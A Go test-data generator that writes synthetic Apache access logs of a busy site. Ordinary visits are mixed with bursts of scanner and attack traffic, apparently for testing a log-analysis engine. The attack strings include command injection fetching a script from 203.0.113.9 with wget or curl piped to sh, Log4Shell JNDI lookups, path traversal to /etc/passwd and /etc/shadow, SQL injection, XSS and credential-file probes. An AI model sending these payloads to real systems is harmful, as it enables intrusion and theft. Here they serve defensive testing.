package enginetest

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"
	"time"
)

// WebLog writes lines of an Apache combined access log (nginx's default
// `combined` is the same layout) of a busy site: browsers reading pages
// and their assets, API calls, crawlers, feed readers, redirects and a few
// 404s, and, in bursts that start at attackPercent percent of the visits
// (1 gives about 4% of the lines), what reaches
// every public web server: vulnerability scanners (Nikto, sqlmap, Nuclei,
// gobuster), path traversal, SQL and command injection, Log4Shell in
// headers, probes for .env and .git (some served), bursts of 401s against
// a login and of 5xx during an upstream failure. Benign requests that look
// odd to a naive rule are there too (a quote in a name, "select" in a
// search, encoded slashes, '+' for spaces). The output is deterministic
// for a seed.
func WebLog(w io.Writer, lines int, attackPercent float64, seed uint64) error {
	g := &webGen{rng: rand.New(rand.NewPCG(seed, 11)), t: time.Date(2024, 5, 6, 0, 0, 0, 0, time.UTC)}
	bw := bufio.NewWriterSize(w, 256<<10)
	for g.n < lines {
		g.t = g.t.Add(time.Duration(g.rng.IntN(900)) * time.Millisecond)
		if g.rng.Float64()*100 < attackPercent {
			g.attack(bw, lines)
		} else {
			g.visit(bw, lines)
		}
	}
	return bw.Flush()
}

type webGen struct {
	rng *rand.Rand
	t   time.Time
	n   int
}

var (
	webBrowsers = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.113 Mobile Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
	}
	webBots = []string{
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
		"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)",
		"UptimeRobot/2.0; http://www.uptimerobot.com/",
		"curl/8.5.0",
		"python-requests/2.31.0",
		"Go-http-client/1.1",
	}
	webPosts = []string{"getting-started-with-terraform", "a-year-of-on-call", "postgres-vacuum-explained",
		"why-we-moved-to-arm", "notes-on-zero-trust", "kubernetes-network-policies", "o11y-on-a-budget",
		"how-we-review-code", "the-cost-of-logging", "incident-review-2024-03"}
	webAssets = []string{"/static/css/site.min.css", "/static/js/app.4f9c2b.js", "/static/js/vendor.91ac0e.js",
		"/static/img/logo.svg", "/favicon.ico", "/static/fonts/inter-var.woff2", "/static/img/hero.webp"}
	webSearches = []string{"terraform+state", "select+a+database", "o%27reilly+books", "union+station+parking",
		"drop+shipping", "c%2B%2B+templates", "sleep+tracking", "user+research", "%E2%9C%93+checklist", "from+scratch"}
)

func (g *webGen) ip() string {
	r := g.rng
	return fmt.Sprintf("%d.%d.%d.%d", 1+r.IntN(222), r.IntN(256), r.IntN(256), 1+r.IntN(254))
}

func (g *webGen) line(w *bufio.Writer, ip, user, method, target string, status, bytes int, referer, ua string) {
	if user == "" {
		user = "-"
	}
	if referer == "" {
		referer = "-"
	}
	fmt.Fprintf(w, "%s - %s [%s] \"%s %s HTTP/1.1\" %d %d \"%s\" \"%s\"\n", ip, user,
		g.t.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, bytes, referer, ua)
	g.n++
}

// visit is an ordinary visitor: a page and, for browsers, some of its assets.
func (g *webGen) visit(w *bufio.Writer, limit int) {
	r := g.rng
	ip := g.ip()
	if r.IntN(10) == 0 {
		ua := webBots[r.IntN(len(webBots))]
		path := "/blog/" + webPosts[r.IntN(len(webPosts))] + "/"
		status := 200
		switch r.IntN(20) {
		case 0:
			path, status = "/blog/old-"+webPosts[r.IntN(len(webPosts))]+".html", 404
		case 1:
			path = "/feed.xml"
		case 2:
			path, status = "/robots.txt", 200
		}
		g.line(w, ip, "", "GET", path, status, 2000+r.IntN(40000), "", ua)
		return
	}
	ua := webBrowsers[r.IntN(len(webBrowsers))]
	page, status, ref := "/", 200, "https://www.google.com/"
	switch n := r.IntN(20); {
	case n < 10:
		page = "/blog/" + webPosts[r.IntN(len(webPosts))] + "/"
	case n < 12:
		page, ref = "/search?q="+webSearches[r.IntN(len(webSearches))]+"&page="+fmt.Sprint(1+r.IntN(3)), "https://example.org/"
	case n < 14:
		page, ref = fmt.Sprintf("/api/v1/comments?post=%d&sort=newest", 100+r.IntN(900)), "https://example.org/blog/"
	case n < 15:
		page, status = "/blog/"+webPosts[r.IntN(len(webPosts))], 301
	case n < 16:
		page, status = "/downloads/slides%2Ftalk-2023.pdf", 200
	case n < 17:
		page, status = "/blog/"+webPosts[r.IntN(len(webPosts))]+"/comments/", 404
	case n < 18:
		page = "/authors/o'brien/"
	}
	g.line(w, ip, "", "GET", page, status, 5000+r.IntN(60000), ref, ua)
	for i := r.IntN(5); i > 0 && g.n < limit; i-- {
		g.t = g.t.Add(time.Duration(r.IntN(80)) * time.Millisecond)
		st := 200
		if r.IntN(4) == 0 {
			st = 304
		}
		g.line(w, ip, "", "GET", webAssets[r.IntN(len(webAssets))], st, 300+r.IntN(90000), "https://example.org"+page, ua)
	}
}

// attack is a burst of one attacker's requests.
func (g *webGen) attack(w *bufio.Writer, limit int) {
	r := g.rng
	ip := fmt.Sprintf("203.0.113.%d", 1+r.IntN(60))
	burst := func(n int, f func(i int)) {
		for i := 0; i < n && g.n < limit; i++ {
			g.t = g.t.Add(time.Duration(r.IntN(400)) * time.Millisecond)
			f(i)
		}
	}
	switch r.IntN(12) {
	case 0: // Nikto: probes, mostly 404
		ua := fmt.Sprintf("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)", r.IntN(9999))
		probes := []string{"/cgi-bin/test.cgi", "/admin/", "/phpmyadmin/", "/.git/config", "/server-status",
			"/backup.zip", "/../../../../etc/passwd", "/index.php?page=../../../etc/passwd", "/wp-config.php.bak", "/.env"}
		burst(5+r.IntN(20), func(int) {
			p := probes[r.IntN(len(probes))]
			g.line(w, ip, "", "GET", p, 404, 200+r.IntN(300), "", ua)
		})
	case 1: // sqlmap
		ua := "sqlmap/1.7.2#stable (https://sqlmap.org)"
		payloads := []string{"1%27%20AND%201%3D1--%20-", "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7176%2C0x71%29--%20-",
			"1%27%20AND%20SLEEP%285%29--%20-", "1%29%20AND%20EXTRACTVALUE%281234%2CCONCAT%280x5c%2C0x71%29%29", "1%27%20OR%20%271%27%3D%271",
			"1;DROP TABLE users--", "1%20AND%20(SELECT%20*%20FROM%20information_schema.tables)"}
		burst(3+r.IntN(15), func(int) {
			st := 200
			if r.IntN(5) == 0 {
				st = 500
			}
			g.line(w, ip, "", "GET", "/api/v1/comments?post="+payloads[r.IntN(len(payloads))], st, 100+r.IntN(5000), "", ua)
		})
	case 2: // path traversal, encoded in several ways
		ts := []string{"/static/..%2f..%2f..%2fetc%2fpasswd", "/download?file=../../../../etc/shadow", "/%2e%2e/%2e%2e/%2e%2e/windows/win.ini",
			"/images/..%252f..%252f..%252fetc/hosts", "/files/..\\..\\..\\boot.ini", "/view?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"}
		burst(1+r.IntN(4), func(int) {
			st := 400
			if r.IntN(6) == 0 {
				st = 200
			}
			g.line(w, ip, "", "GET", ts[r.IntN(len(ts))], st, 150+r.IntN(2000), "", webBrowsers[0])
		})
	case 3: // command injection and web shells
		ts := []string{"/cgi-bin/ping?host=127.0.0.1;wget%20http://203.0.113.9/x.sh", "/shell.php?cmd=whoami",
			"/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
			"/api/run?c=%60curl%20203.0.113.9%7Csh%60", "/?exec=uname%20-a", "/debug?q=$(cat%20/etc/passwd)"}
		burst(1+r.IntN(3), func(int) {
			g.line(w, ip, "", "GET", ts[r.IntN(len(ts))], 404, 200, "", "curl/7.88.1")
		})
	case 4: // Log4Shell in the user agent and the query
		uas := []string{"${jndi:ldap://203.0.113.9:1389/a}", "${${lower:j}ndi:${lower:l}dap://cb.example.net/x}", "Mozilla/5.0 ${jndi:dns://203.0.113.9/ua}"}
		burst(1+r.IntN(3), func(i int) {
			target := "/"
			if i%2 == 1 {
				target = "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fq%7D"
			}
			g.line(w, ip, "", "GET", target, 200, 5120, "", uas[r.IntN(len(uas))])
		})
	case 5: // sensitive files, some served
		fs := []string{"/.env", "/.git/HEAD", "/.git/config", "/wp-config.php.save", "/backup.sql", "/.aws/credentials", "/phpinfo.php", "/.DS_Store"}
		burst(2+r.IntN(6), func(int) {
			st, b := 404, 150
			if r.IntN(3) == 0 {
				st, b = 200, 20+r.IntN(4000)
			}
			g.line(w, ip, "", "GET", fs[r.IntN(len(fs))], st, b, "", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
		})
	case 6, 7: // forced browsing (gobuster), a burst of 404s
		ua := "gobuster/3.6"
		if r.IntN(2) == 0 {
			ua = webBrowsers[2]
		}
		words := []string{"admin", "backup", "old", "test", "dev", "api", "login", "upload", "tmp", "private", "console", "config"}
		burst(20+r.IntN(40), func(int) {
			g.line(w, ip, "", "GET", "/"+words[r.IntN(len(words))]+fmt.Sprint(r.IntN(100)), 404, 162, "", ua)
		})
	case 8: // password guessing against basic auth
		users := []string{"admin", "root", "test", "deploy", "guest"}
		burst(10+r.IntN(20), func(int) {
			g.line(w, ip, users[r.IntN(len(users))], "GET", "/admin/", 401, 381, "", "python-requests/2.31.0")
		})
	case 9: // an upstream failure: everyone gets 502/503 for a while
		burst(15+r.IntN(25), func(int) {
			st := []int{502, 503, 504}[r.IntN(3)]
			g.line(w, g.ip(), "", "GET", "/blog/"+webPosts[r.IntN(len(webPosts))]+"/", st, 0, "", webBrowsers[r.IntN(len(webBrowsers))])
		})
	case 10: // Nuclei templates and XSS probes
		ts := []string{"/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/wp-json/wp/v2/users", "/actuator/env", "/.vscode/sftp.json",
			"/api/v1/comments?post=1%20and%20extractvalue(1,concat(0x7e,version()))", "/search?q=%22%20OR%20%221%22%3D%221"}
		burst(3+r.IntN(8), func(int) {
			g.line(w, ip, "", "GET", ts[r.IntN(len(ts))], []int{404, 403, 200}[r.IntN(3)], 300, "", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei")
		})
	default: // a POST body we cannot see, and an odd but harmless request
		g.line(w, ip, "", "POST", "/xmlrpc.php", 405, 42, "", "Mozilla/5.0 (compatible; Windows NT 6.1)")
		g.line(w, ip, "", "GET", "/blog/"+strings.ToUpper(webPosts[r.IntN(len(webPosts))])+"/?utm_source=x+y", 404, 162, "", webBrowsers[1])
	}
}
